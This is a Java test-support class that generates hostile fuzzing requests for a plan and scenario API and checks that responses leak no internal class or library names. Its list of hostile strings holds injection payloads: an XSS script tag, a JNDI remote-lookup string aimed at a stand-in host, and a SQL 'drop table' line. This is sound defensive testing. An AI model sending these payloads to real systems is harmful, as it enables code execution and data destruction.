package dev.stackplan.testsupport;

import java.net.URLEncoder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.Tuple;
import net.jqwik.api.sessions.JqwikSession;
import org.jspecify.annotations.Nullable;

/**
 * Hostile requests for the public API, as an adversary would send them: plan requests and
 * scenarios with numbers beyond {@code double} ({@code 1e309}, {@code 1e-400}), NUL
 * characters and lone surrogates, duplicate keys, misspelt and unknown fields, wrong
 * types, bodies in UTF-16 or Latin-1 or cut short, wrong content types, crafted list
 * cursors, times outside any log, override values outside the knowledge base's bounds,
 * and odd {@code Idempotency-Key} and {@code Prefer} headers. Most are invalid, some are
 * valid, so a test also sees the happy path survive.
 * <p>
 * Every request is something a standard HTTP client can send (no CR, LF or NUL in a
 * header; the path percent-encoded). It carries no credentials: add the API key of a
 * client ({@code X-Api-Key}), and for scenarios one with the analyst role.
 * <p>
 * What must hold for every answer: no 5xx, and no body that {@link #leaks} anything.
 * <pre>{@code
 * for (HostileRequest request : HostileRequests.sample(HostileRequests.any(), 10_000, 42)) {
 *     // send request.method() request.path() with request.headers() and request.body()
 *     // assert status < 500 and HostileRequests.leaks(body).isEmpty()
 * }
 * }</pre>
 */
public final class HostileRequests {

	/** Where plans are requested. */
	public static final String PLANS = "/api/v1/plans";

	/** Where scenarios are created and dry-run. */
	public static final String SCENARIOS = "/api/v1/scenarios";

	/**
	 * What no answer may contain: a qualified class name ({@code java.lang.IllegalState},
	 * not a field path such as {@code overrides.cost.tiers.MID}), an internal path, a
	 * library.
	 */
	private static final Pattern LEAK = Pattern.compile("\\b[a-z][a-z0-9_]*(?:\\.[a-z][a-z0-9_]*)+\\.[A-Z][a-z]\\w*"
			+ "|Exception|(?i:/internal/|jackson|fasterxml|springframework|netty|reactor\\.|networknt|postgresql|r2dbc"
			+ "|\\bjava\\.|kafka\\.)");

	private static final List<String> HOSTILE_NUMBERS = List.of("1e309", "-1e309", "1e-400", "1E+99999", "-0", "0",
			"-1", "0.5", "2147483648", "-2147483649", "99999999999999999999999999", "1.0e2", "1e3", "NaN", "Infinity",
			"-Infinity", "0x10", "01", "1.", ".5", "+1");

	private static final List<String> HOSTILE_STRINGS = List.of("\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"",
			"\"x\\udfffy\"", "\"\\ud83d\\ude00\"", "\"\"", "\"   \"", "\"" + "x".repeat(300) + "\"",
			"\"<script>alert(1)</script>\"", "\"${jndi:ldap://example.invalid/a}\"", "\"'; drop table plans; --\"",
			"\"\\\\\"", "\"\u00fc\u00df\"", "\"SAAS\"", "\"saas\"", "\"AUTH\"", "\"2026-01-01T00:00:00Z\"", "\"12\"",
			"\"\\t\\n\"", "\"\u202e\"");

	private static final List<String> WRONG_TYPES = List.of("true", "false", "null", "[]", "{}", "[1, 2]", "{\"a\": 1}",
			"[\"AUTH\", \"AUTH\"]", "[null]");

	private static final List<String> UNKNOWN_NAMES = List.of("senior", "seniors", "budget", "currency", "Product",
			"timeline", "engineer", "expected_rps", "kinds", "feature", "name ", "", "\\u0000", "__proto__",
			"constructor", "dryrun", "override", "form", "planID", "x".repeat(100));

	private static final List<String> INSTANTS = List.of("\"2026-01-01T00:00:00Z\"", "\"1970-01-01T00:00:00Z\"",
			"\"1969-12-31T23:59:59Z\"", "\"+999999999-01-01T00:00:00Z\"", "\"-999999999-01-01T00:00:00Z\"",
			"\"+10000-01-01T00:00:00Z\"", "\"9999-12-31T23:59:59Z\"", "\"2026-13-01T00:00:00Z\"", "\"2026-01-01\"",
			"\"2026-01-01T00:00:00+01:00\"", "0", "1700000000000", "null");

	/** Numeric leaves of the knowledge base and near misses of their names. */
	private static final List<String> OVERRIDE_PATHS = List.of("cost/onDemand/tiers/MID/weeklyUsd",
			"cost/onDemand/tiers/SENIOR/weeklyUsd", "cost/onDemand/tiers/LEAD/weeklyUSD",
			"cost/fullTime/loadedMultiplier/low", "cost/fullTime/loadedMultiplier/high",
			"cost/fullTime/salaries/MID/lowUsd", "cost/fullTime/costPerHireUsd/value",
			"cost/calendar/workingDaysPerWeek/value", "cost/calendar/weeksPerYear/value",
			"cost/onDemand/trial/credit/workingDays",
			"cost/staffing/DJANGO/roles/FEATURE_WORK/sizing/featuresPerEngineer",
			"cost/staffing/HYBRID/roles/ARCHITECTURE_LEAD/sizing/timelineShare", "frameworks/factors/THROUGHPUT/weight",
			"frameworks/factors/THROUGHPUT/scores/DJANGO", "frameworks/factors/ASYNC/scores/FASTAPI",
			"frameworks/weightModifiers/AUTH_NEEDS_THE_AUTH_BATTERY/multiply/AUTH",
			"frameworks/rules/THROUGHPUT_MATTERS_AT_SCALE/when/expectedRps/atLeast", "frameworks/factors/THROUGHPUT",
			"frameworks/factors/THRUPUT/weight", "cost/onDemand", "cost", "nothing/here", "cost/onDemand/tiers/MID");

	private static final List<String> PLAUSIBLE_OVERRIDE_VALUES = List.of("1800", "1.5", "100", "50", "3", "0.5",
			"1.25");

	private static final List<String> CONTENT_TYPES = List.of("application/json;charset=UTF-8",
			"application/json;charset=UTF-16", "application/json; charset=ISO-8859-1",
			"application/json; charset=\"utf-8\"", "text/plain", "application/x-www-form-urlencoded", "application/*",
			"application/json-seq", "application/problem+json", "garbage", "");

	private static final List<String> IDEMPOTENCY_KEYS = List.of("00000000-0000-0000-0000-000000000001", "",
			"has space", "k".repeat(256), "cl\u00e9", "tab\tkey", "a;b=c", "\"quoted\"");

	private static final List<String> PREFER = List.of("wait=1", "wait=0", "wait=99999999999", "wait=-1", "wait=abc",
			"wait", "respond-async, wait=1", "wait=1, wait=2", "handling=strict", "");

	private static final List<String> IDS = List.of("00000000-0000-0000-0000-000000000001", "not-a-uuid", "1-1-1-1-1",
			"%00", "%2e%2e", "00000000-0000-0000-0000-00000000000g", "%F0%9F%98%80");

	private HostileRequests() {
	}

	/**
	 * One request.
	 *
	 * @param method the HTTP method
	 * @param path the path and query, percent-encoded, e.g.
	 * {@code /api/v1/plans?limit=1e3}
	 * @param headers request headers (no credentials), e.g. {@code Content-Type}
	 * @param body the body bytes, empty for none
	 */
	public record HostileRequest(String method, String path, Map<String, String> headers, byte[] body) {

		public HostileRequest {
			headers = Map.copyOf(headers);
		}

		/** For a failure message: the request as a line and its body as text. */
		@Override
		public String toString() {
			return this.method + " " + this.path + " " + this.headers + " "
					+ new String(this.body, StandardCharsets.UTF_8);
		}

	}

	/** Every kind of request this class makes, in about equal shares. */
	public static Arbitrary<HostileRequest> any() {
		return Arbitraries.frequencyOf(Tuple.of(4, planRequests()), Tuple.of(4, scenarioRequests()),
				Tuple.of(1, planQueries()), Tuple.of(1, scenarioQueries()));
	}

	/** {@code POST /api/v1/plans} with hostile bodies, content types and headers. */
	public static Arbitrary<HostileRequest> planRequests() {
		return Combinators.combine(planBodies(), contentTypes(), optional(IDEMPOTENCY_KEYS), optional(PREFER))
			.as((body, contentType, key, prefer) -> {
				Map<String, String> headers = new LinkedHashMap<>();
				put(headers, "Content-Type", contentType);
				put(headers, "Idempotency-Key", key);
				put(headers, "Prefer", prefer);
				return new HostileRequest("POST", PLANS, headers, body);
			});
	}

	/**
	 * {@code POST /api/v1/scenarios}: creates and dry runs with hostile sources and
	 * overrides.
	 */
	public static Arbitrary<HostileRequest> scenarioRequests() {
		return Combinators.combine(scenarioBodies(), contentTypes()).as((body, contentType) -> {
			Map<String, String> headers = new LinkedHashMap<>();
			put(headers, "Content-Type", contentType);
			return new HostileRequest("POST", SCENARIOS, headers, body);
		});
	}

	/** Plan list queries and plan reads: hostile status, limit, cursor and ids. */
	public static Arbitrary<HostileRequest> planQueries() {
		Arbitrary<String> list = Combinators
			.combine(optional(List.of("PENDING", "complete", "nope", "", "\u0000", "PENDING,COMPLETE")),
					optional(List.of("1", "100", "101", "0", "-1", "1e3", "abc", "99999999999", " 5")), cursors())
			.as((status, limit, cursor) -> query(PLANS,
					parameters("status", status, "limit", limit, "cursor", cursor)));
		Arbitrary<String> read = Arbitraries.of(IDS)
			.flatMap((id) -> Arbitraries.of(PLANS + "/" + id, PLANS + "/" + id + "/events", PLANS + "/" + id + "/"));
		return Arbitraries.oneOf(list, read).map((path) -> new HostileRequest("GET", path, Map.of(), new byte[0]));
	}

	/** Scenario list queries and reads. */
	public static Arbitrary<HostileRequest> scenarioQueries() {
		Arbitrary<String> list = Combinators
			.combine(optional(List.of("1", "100", "101", "0", "-1", "1e3", "abc")), cursors())
			.as((limit, cursor) -> query(SCENARIOS, parameters("limit", limit, "cursor", cursor)));
		Arbitrary<String> read = Arbitraries.of(IDS)
			.flatMap((id) -> Arbitraries.of(SCENARIOS + "/" + id, SCENARIOS + "/" + id + "/report"));
		return Combinators.combine(Arbitraries.oneOf(list, read), optional(List.of("text/csv", "text/xml", "*/*")))
			.as((path, accept) -> {
				Map<String, String> headers = new LinkedHashMap<>();
				put(headers, "Accept", accept);
				return new HostileRequest("GET", path, headers, new byte[0]);
			});
	}

	/**
	 * What a body gives away that it must not: each class name, internal path or library
	 * name found; empty when the body is clean.
	 */
	public static List<String> leaks(@Nullable String body) {
		List<String> found = new ArrayList<>();
		if (body != null) {
			Matcher matcher = LEAK.matcher(body);
			while (matcher.find()) {
				found.add(matcher.group());
			}
		}
		return found;
	}

	/**
	 * {@code count} requests drawn with a fixed seed, so a failure can be reproduced; for
	 * plain JUnit tests that send them themselves (over HTTP, or through a
	 * {@code WebTestClient}). Not for use inside a running jqwik property.
	 */
	public static List<HostileRequest> sample(Arbitrary<HostileRequest> arbitrary, int count, long seed) {
		List<HostileRequest> requests = new ArrayList<>(count);
		// outside a property, jqwik generates only within a session of its own
		JqwikSession.run(Long.toString(seed), () -> {
			RandomGenerator<HostileRequest> generator = arbitrary.generator(1000);
			Random random = JqwikSession.getRandom().orElseGet(() -> new Random(seed));
			for (int i = 0; i < count; i++) {
				requests.add(generator.next(random).value());
			}
		});
		return requests;
	}

	private static Arbitrary<byte[]> planBodies() {
		Arbitrary<JsonText> mutated = Combinators
			.combine(Arbitraries.integers().between(0, 3), mutation(List.of("", "product", "team")),
					mutation(List.of("", "product", "team")), mutation(List.of("", "product", "team")))
			.as((count, first, second, third) -> {
				JsonText body = validPlan();
				List.of(first, second, third).subList(0, count).forEach((mutation) -> mutation.applyTo(body));
				return body;
			});
		return encoded(mutated);
	}

	private static Arbitrary<byte[]> scenarioBodies() {
		Arbitrary<JsonText> mutated = Combinators
			.combine(Arbitraries.integers().between(0, 2), mutation(List.of("", "source")),
					mutation(List.of("", "source")), overrides(), times(), Arbitraries.of("true", "true", "false"))
			.as((count, first, second, overrides, times, dryRun) -> {
				JsonText body = validScenario(times, dryRun);
				body.set("overrides", overrides);
				List.of(first, second).subList(0, count).forEach((mutation) -> mutation.applyTo(body));
				return body;
			});
		return encoded(mutated);
	}

	private static Arbitrary<JsonText> overrides() {
		Arbitrary<String> value = Arbitraries.frequencyOf(Tuple.of(2, Arbitraries.of(PLAUSIBLE_OVERRIDE_VALUES)),
				Tuple.of(3, hostileValues()));
		Arbitrary<Map.Entry<String, String>> override = Combinators.combine(Arbitraries.of(OVERRIDE_PATHS), value)
			.as(Map::entry);
		return override.list().ofMaxSize(3).map((entries) -> {
			JsonText overrides = new JsonText();
			entries.forEach((entry) -> overrides.put(List.of(entry.getKey().split("/")), entry.getValue()));
			return overrides;
		});
	}

	private static Arbitrary<String[]> times() {
		return Combinators.combine(Arbitraries.of(INSTANTS), Arbitraries.of(INSTANTS))
			.as((from, to) -> new String[] { from, to });
	}

	private static Arbitrary<String> hostileValues() {
		return Arbitraries.of(Stream.of(HOSTILE_NUMBERS, HOSTILE_STRINGS, WRONG_TYPES)
			.flatMap(List::stream)
			.collect(Collectors.toList()));
	}

	/** One change to a body: set, add an unknown field, remove or duplicate one. */
	private static Arbitrary<Mutation> mutation(List<String> levels) {
		return Combinators
			.combine(Arbitraries.of(levels), Arbitraries.of(Operation.values()), Arbitraries.integers().between(0, 9),
					Arbitraries.of(UNKNOWN_NAMES), hostileValues())
			.as(Mutation::new);
	}

	/** Mostly well-formed UTF-8; sometimes another encoding, cut short or nested deep. */
	private static Arbitrary<byte[]> encoded(Arbitrary<JsonText> bodies) {
		Arbitrary<Encoding> encodings = Arbitraries.frequency(Tuple.of(20, Encoding.UTF8),
				Tuple.of(1, Encoding.UTF16LE), Tuple.of(1, Encoding.UTF16_BOM), Tuple.of(1, Encoding.UTF8_BOM),
				Tuple.of(1, Encoding.LATIN1), Tuple.of(1, Encoding.INVALID_UTF8), Tuple.of(1, Encoding.TRUNCATED),
				Tuple.of(1, Encoding.TRAILING), Tuple.of(1, Encoding.DEEP), Tuple.of(1, Encoding.EMPTY));
		return Combinators.combine(bodies, encodings, Arbitraries.integers().between(0, 10_000))
			.as((body, encoding, position) -> encoding.bytes(body.render(), position));
	}

	private static Arbitrary<@Nullable String> contentTypes() {
		return Arbitraries.frequencyOf(Tuple.of(12, Arbitraries.just("application/json")),
				Tuple.of(3, Arbitraries.of(CONTENT_TYPES)));
	}

	private static Arbitrary<String> cursors() {
		List<String> raw = List.of("-62135596801.0.00000000-0000-0000-0000-000000000001",
				"99999999999999.0.00000000-0000-0000-0000-000000000001",
				"9223372036854775807.999999999.00000000-0000-0000-0000-000000000001",
				"1700000000.1000000000.00000000-0000-0000-0000-000000000001",
				"1700000000.0.00000000-0000-0000-0000-000000000001", "1700000000.0.1-1-1-1-1", "a.b.c", "");
		Arbitrary<String> crafted = Arbitraries.of(raw)
			.map((text) -> Base64.getUrlEncoder()
				.withoutPadding()
				.encodeToString(text.getBytes(StandardCharsets.UTF_8)));
		Arbitrary<String> junk = Arbitraries.of("%00", "not base64!", "AAAA", "=", "\ud800", "x".repeat(2000));
		return Arbitraries.frequencyOf(Tuple.of(1, Arbitraries.just("")), Tuple.of(3, crafted), Tuple.of(2, junk));
	}

	private static <T> Arbitrary<@Nullable T> optional(List<T> values) {
		return Arbitraries.of(values).injectNull(0.5);
	}

	private static void put(Map<String, String> headers, String name, @Nullable String value) {
		if (value != null && !value.isEmpty()) {
			headers.put(name, value);
		}
	}

	private static Map<String, @Nullable String> parameters(@Nullable String... namesAndValues) {
		Map<String, @Nullable String> parameters = new LinkedHashMap<>();
		for (int i = 0; i + 1 < namesAndValues.length; i += 2) {
			parameters.put(String.valueOf(namesAndValues[i]), namesAndValues[i + 1]);
		}
		return parameters;
	}

	private static String query(String path, Map<String, @Nullable String> parameters) {
		String query = parameters.entrySet()
			.stream()
			.filter((parameter) -> parameter.getValue() != null && !parameter.getValue().isEmpty())
			.map((parameter) -> parameter.getKey() + "="
					+ URLEncoder.encode(parameter.getValue(), StandardCharsets.UTF_8))
			.collect(Collectors.joining("&"));
		return query.isEmpty() ? path : path + "?" + query;
	}

	private static JsonText validPlan() {
		JsonText product = new JsonText().set("name", "\"Acme\"")
			.set("kind", "\"SAAS\"")
			.set("features", "[\"AUTH\", \"BILLING\"]")
			.set("expectedRps", "10")
			.set("existingFramework", "\"NONE\"");
		JsonText team = new JsonText().set("engineers", "2").set("seniorEngineers", "1");
		return new JsonText().set("product", product)
			.set("team", team)
			.set("timelineWeeks", "12")
			.set("budgetUsd", "60000");
	}

	private static JsonText validScenario(String[] times, String dryRun) {
		JsonText source = new JsonText().set("from", times[0]).set("to", times[1]);
		return new JsonText().set("name", "\"what if\"").set("source", source).set("dryRun", dryRun);
	}

	private enum Operation {

		SET, ADD_UNKNOWN, REMOVE, DUPLICATE

	}

	private record Mutation(String level, Operation operation, int index, String unknownName, String value) {

		void applyTo(JsonText body) {
			JsonText target = level.isEmpty() ? body : body.object(this.level);
			if (target == null) {
				return;
			}
			switch (this.operation) {
				case SET -> target.setAt(this.index, this.value);
				case ADD_UNKNOWN -> target.add(this.unknownName, this.value);
				case REMOVE -> target.removeAt(this.index);
				case DUPLICATE -> target.duplicateAt(this.index, this.value);
			}
		}

	}

	private enum Encoding {

		UTF8, UTF16LE, UTF16_BOM, UTF8_BOM, LATIN1, INVALID_UTF8, TRUNCATED, TRAILING, DEEP, EMPTY;

		byte[] bytes(String json, int position) {
			return switch (this) {
				case UTF8 -> json.getBytes(StandardCharsets.UTF_8);
				case UTF16LE -> json.getBytes(StandardCharsets.UTF_16LE);
				case UTF16_BOM -> json.getBytes(StandardCharsets.UTF_16);
				case UTF8_BOM -> ("\uFEFF" + json).getBytes(StandardCharsets.UTF_8);
				case LATIN1 -> json.replace("Acme", "Caf\u00e9").getBytes(Charset.forName("ISO-8859-1"));
				case INVALID_UTF8 -> {
					byte[] utf8 = json.getBytes(StandardCharsets.UTF_8);
					byte[] broken = new byte[utf8.length + 2];
					int at = position % (utf8.length + 1);
					System.arraycopy(utf8, 0, broken, 0, at);
					broken[at] = (byte) 0xC3;
					broken[at + 1] = (byte) 0x28;
					System.arraycopy(utf8, at, broken, at + 2, utf8.length - at);
					yield broken;
				}
				case TRUNCATED ->
					json.substring(0, position % Math.max(1, json.length())).getBytes(StandardCharsets.UTF_8);
				case TRAILING -> (json + " {}").getBytes(StandardCharsets.UTF_8);
				case DEEP -> ("[".repeat(3000) + "]".repeat(3000)).getBytes(StandardCharsets.UTF_8);
				case EMPTY -> new byte[0];
			};
		}

	}

	/**
	 * A JSON object kept as raw text per property, so that duplicates, invalid tokens and
	 * any value can be written as an adversary would.
	 */
	private static final class JsonText {

		private final List<Map.Entry<String, Object>> properties = new ArrayList<>();

		JsonText set(String name, Object value) {
			for (int i = 0; i < this.properties.size(); i++) {
				if (this.properties.get(i).getKey().equals(name)) {
					this.properties.set(i, Map.entry(name, value));
					return this;
				}
			}
			this.properties.add(Map.entry(name, value));
			return this;
		}

		void add(String name, Object value) {
			this.properties.add(Map.entry(name, value));
		}

		@Nullable JsonText object(String name) {
			for (Map.Entry<String, Object> property : this.properties) {
				if (property.getKey().equals(name) && property.getValue() instanceof JsonText object) {
					return object;
				}
			}
			return null;
		}

		void put(List<String> path, String value) {
			if (path.size() == 1) {
				set(path.get(0), value);
				return;
			}
			JsonText child = object(path.get(0));
			if (child == null) {
				child = new JsonText();
				set(path.get(0), child);
			}
			child.put(path.subList(1, path.size()), value);
		}

		void setAt(int index, String value) {
			if (!this.properties.isEmpty()) {
				int at = index % this.properties.size();
				this.properties.set(at, Map.entry(this.properties.get(at).getKey(), value));
			}
		}

		void removeAt(int index) {
			if (!this.properties.isEmpty()) {
				this.properties.remove(index % this.properties.size());
			}
		}

		void duplicateAt(int index, String value) {
			if (!this.properties.isEmpty()) {
				this.properties.add(Map.entry(this.properties.get(index % this.properties.size()).getKey(), value));
			}
		}

		String render() {
			return this.properties.stream()
				.map((property) -> "\"" + property.getKey() + "\": "
						+ ((property.getValue() instanceof JsonText object) ? object.render() : property.getValue()))
				.collect(Collectors.joining(", ", "{", "}"));
		}

	}

}
